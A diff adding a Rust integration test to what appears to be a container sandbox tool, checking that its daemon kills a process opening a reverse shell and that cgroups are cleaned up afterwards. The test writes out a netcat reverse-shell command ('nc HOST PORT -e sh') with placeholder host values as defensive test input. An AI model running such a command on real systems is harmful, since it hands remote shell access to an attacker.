@@ -70,3 +70,19 @@ fn the_daemon_is_killed() {
 fn pid(pid: Pid) -> i64 {
     pid.as_raw().into()
 }
+
+/// The harness asserts so after every test; here it is asserted of everything that leaves traces.
+#[test]
+fn nothing_is_left() {
+    let coi = Coi::with_daemon(&[]);
+    coi.run(TINY, &["true"]).expect(0);
+    let attacker = Attacker::on_bridge();
+    let ended = coi.run(TINY, &["sh", "-c", &attacker.fill("nc HOST PORT -e sh")]);
+    coi.assert_killed(ended, "reverse-shell-socket");
+    let watch = coi.start(&["watch", "--", "sh", "-c", "sleep 1000 & exit 0"]);
+    let cgroup = incus::cgroups().join(format!("coi.watch-{}", watch.pid()));
+    watch.finish().expect(0);
+    assert!(!cgroup.exists());
+    // Containers, mounts and cgroups; the daemon's socket, programs and maps.
+    drop(coi);
+}
